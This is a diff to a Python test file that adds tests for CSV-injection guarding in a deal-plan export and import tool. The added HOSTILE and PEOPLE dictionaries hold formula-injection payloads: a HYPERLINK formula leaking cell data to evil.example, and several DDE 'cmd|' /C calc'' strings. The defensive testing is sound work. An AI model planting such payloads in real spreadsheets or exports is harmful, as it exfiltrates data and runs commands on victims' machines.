@@ -6,13 +6,17 @@ calendar (Memorial Day, 2027-05-31, is a holiday).
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import json
+import re
 
 import icalendar
+import pytest
 
 from mapsite.config import load_site
 from mapsite.content.loader import load_deals
+from mapsite.exchange.cell_guard import FORMULA_STARTS, guard_cell, unguard_cell
 from tests.conftest import TODAY
 from tests.test_cli import run
 
@@ -180,3 +184,130 @@ def test_exporting_an_unknown_deal_says_so(example_site):
         "content/deals: error: no deal with slug 'nope' (hint: list the deals with: mapsite check)",
         "error: cannot export 'nope' (hint: run mapsite check)",
     ]
+
+
+# Issue 12, finding 9: cells a spreadsheet would run. Each starts with one of the characters
+# OWASP lists for CSV injection (= + - @, tab, carriage return); the deal file is the attacker's.
+HOSTILE = {
+    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "dash_text": "- call CFO",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quoted": "'=already behind a quote",
+}
+# Owner cells list people separated by , ; / + (docs/deal-format.md): names without those.
+PEOPLE = {"at": "@cmd|' -c calc'!A0", "equals": "=cmd|' -c calc'!A0", "title": "=A1*2"}
+
+
+def hostile_deal() -> str:
+    """A deal whose phases, milestone names, owner names, notes and dependencies all attack."""
+
+    def q(text: str) -> str:
+        return json.dumps(text)
+
+    return f"""\
+---
+title: Hostile Co x Northwind
+buyer: {{name: Hostile Co, accent: "#0A66C2"}}
+close_date: 2027-04-30
+updated: 2027-02-20
+access:
+  - {{label: Buying team, password_env: TEST_PORTAL_PASSWORD}}
+value_summary: Hostile Co tests every cell.
+stakeholders:
+  - {{id: champ, name: {q(PEOPLE["at"])}, title: {q(PEOPLE["title"])}, side: buyer, role: champion}}
+  - {{id: eb, name: {q(PEOPLE["equals"])}, side: buyer, role: economic_buyer}}
+  - {{id: ae, name: {q(HOSTILE["dash_text"])}, side: seller, role: account_executive}}
+milestones:
+  - {{phase: {q(HOSTILE["plus"])}, id: one, name: {q(HOSTILE["equals"])}, owners: [champ, ae], due: 2027-03-01, notes: {q(HOSTILE["minus"])}}}
+  - {{phase: {q(HOSTILE["at"])}, id: two, name: {q(HOSTILE["tab"])}, owners: [eb], due: 2027-03-08, depends_on: [one], notes: {q(HOSTILE["cr"])}}}
+  - {{phase: Close, id: three, name: {q(HOSTILE["quoted"])}, owners: [eb, ae], due: close, depends_on: [two], notes: "-5"}}
+  - {{phase: Close, id: signature, name: Contract Signature, owners: [eb], due: close, notes: {q(HOSTILE["dash_text"])}}}
+---
+The plan.
+"""
+
+
+def exported_rows(site, tmp_path) -> list[list[str]]:
+    out = tmp_path / "hostile.csv"
+    result = run("export", "hostile-co", "--format", "csv", "--out", str(out), "--site", str(site))
+    assert result.returncode == 0, result.stderr
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run(site_factory, tmp_path):
+    site = site_factory.make({"hostile-co.md": hostile_deal()})
+    header, *rows = exported_rows(site, tmp_path)
+    assert header == [
+        "Id", "Phase", "Milestone", "Owner (Customer)", "Owner (Vendor)", "Due Date", "Status",
+        "Dependencies", "Notes",
+    ]  # fmt: skip
+    cells = [cell for row in rows for cell in row]
+    runnable = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+", c)]
+    assert runnable == []
+    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    h = HOSTILE
+    assert by_id["one"] == {
+        "Id": "one",
+        "Phase": "'" + h["plus"],
+        "Milestone": "'" + h["equals"],
+        "Owner (Customer)": f"'{PEOPLE['at']} ({PEOPLE['title']})",
+        "Owner (Vendor)": "'" + h["dash_text"],
+        "Due Date": "2027-03-01",
+        "Status": "Pending",
+        "Dependencies": "",
+        "Notes": "'" + h["minus"],
+    }
+    assert by_id["two"]["Phase"] == "'" + h["at"]
+    assert by_id["two"]["Milestone"] == "'\t=1+1"
+    assert by_id["two"]["Owner (Customer)"] == "'" + PEOPLE["equals"]
+    assert by_id["two"]["Dependencies"] == "'" + h["equals"]  # the name of the step it waits for
+    assert by_id["two"]["Notes"] == "'\r=1+1"
+    # Text already behind a quote gets one more, so the import can take exactly one off.
+    assert by_id["three"]["Milestone"] == "''=already behind a quote"
+    assert by_id["three"]["Notes"] == "-5"  # a plain number is a value, not a formula
+    assert by_id["signature"]["Notes"] == "'- call CFO"
+
+
+def test_importing_the_guarded_csv_gives_back_the_text_as_written(site_factory, tmp_path):
+    site = site_factory.make({"hostile-co.md": hostile_deal()})
+    out = tmp_path / "hostile.csv"
+    assert (
+        run("export", "hostile-co", "--format", "csv", "--out", str(out), "--site", str(site)).returncode == 0
+    )
+    imported = run("import", str(out), "--slug", "copy", "--buyer", "Copy Co", "--site", str(site))
+    assert imported.returncode == 0, imported.stderr
+
+    deals = load_deals(load_site(site)[0], dt.date(2027, 2, 22)).deals
+    original, copy = (next(d for d in deals if d.slug == slug) for slug in ("hostile-co", "copy"))
+
+    def plan(deal):
+        # Import reads a cell as a person sees it: runs of spaces, tabs and line breaks collapse.
+        names = {m.id: " ".join(m.name.split()) for m in deal.milestones}
+        return [
+            (
+                names[m.id],
+                m.phase,
+                m.notes and " ".join(m.notes.split()),
+                [names[d] for d in m.depends_on],
+                sorted((p.name, p.title) for p in map(deal.stakeholder, m.owners)),
+            )
+            for m in deal.milestones
+        ]
+
+    assert plan(copy) == plan(original)
+    assert plan(copy)[0][0] == HOSTILE["equals"] and plan(copy)[2][0] == HOSTILE["quoted"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "plain", "-5", "-5.25", "2027-04-30", "'", "'-5", "''=x", "Acme (CFO)", *HOSTILE.values()],
+)
+def test_guarding_a_cell_is_undone_exactly_by_the_import(text):
+    guarded = guard_cell(text)
+    assert unguard_cell(guarded) == text
+    assert not guarded.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", guarded)
